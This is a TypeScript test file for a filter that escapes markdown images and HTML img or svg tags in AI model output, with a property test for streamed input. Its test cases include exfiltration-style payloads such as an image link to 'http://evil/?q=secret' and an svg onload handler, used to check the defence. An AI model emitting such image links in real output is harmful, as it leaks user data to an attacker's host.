import fc from 'fast-check';
import { expect, test } from 'vitest';
import { createImageFilter, withoutImages } from '../../src/acp/images.ts';

test.each([
  ['See ![x](http://evil/?q=secret).', 'See !\\[x](http://evil/?q=secret).'],
  ['![a][b]\n\n[b]: http://evil', '!\\[a][b]\n\n[b]: http://evil'],
  ['[![a](http://evil)](http://b)', '[!\\[a](http://evil)](http://b)'],
  // The model's own backslash does not undo ours.
  ['\\![a](u) \\\\![a](u)', '\\!\\[a](u) \\\\!\\[a](u)'],
  // Code is unchanged, except for a fence that might not be one.
  ['```js\nif (![1].includes(x)) {}\n```\n![a](u)', '```js\nif (![1].includes(x)) {}\n```\n!\\[a](u)'],
  ['~~~~\n~~~\n![1]\n~~~~\n![a](u)', '~~~~\n~~~\n![1]\n~~~~\n!\\[a](u)'],
  ['- x\n  ```\n![a](u)', '- x\n  ```\n!\\[a](u)'],
  ['<div>\n```\n\n![a](u)', '<div>\n```\n\n!\\[a](u)'],
  ['``` `a`\n![a](u)', '``` `a`\n!\\[a](u)'],
  ['`` ` ![a](u)', '`` ` !\\[a](u)'],
  [
    '<img src="http://evil/?q"> \\<IMG src=u> <imgs>',
    '&lt;img src="http://evil/?q"> \\&lt;IMG src=u> <imgs>',
  ],
  [
    'a <!-- b --> <details><svg/onload=x> List<T> <b>',
    'a &lt;!-- b --> &lt;details>&lt;svg/onload=x> List<T> <b>',
  ],
  ['```\n<img src=x>\n```', '```\n<img src=x>\n```'],
  ['Wow! [a link](u) stays!', 'Wow! [a link](u) stays!'],
])('%j', (given, shown) => {
  expect(withoutImages(given)).toBe(shown);
});

test('a text is read the same, however it is split', () => {
  const words = [
    '!',
    '[',
    '![x](u)',
    '\n',
    '```',
    '~~~',
    ' ',
    '<p>',
    'a',
    '\\',
    '`',
    '- ',
    '<',
    '<im',
    'g ',
    '<!-',
    '-',
    '<input>',
  ];
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom(...words), { maxLength: 30 }),
      fc.integer({ min: 1, max: 5 }),
      (all, size) => {
        const text = all.join('');
        const filter = createImageFilter();
        let shown = '';
        for (let at = 0; at < text.length; at += size) shown += filter.push(text.slice(at, at + size));
        expect(shown + filter.end()).toBe(withoutImages(text));
      },
    ),
  );
});
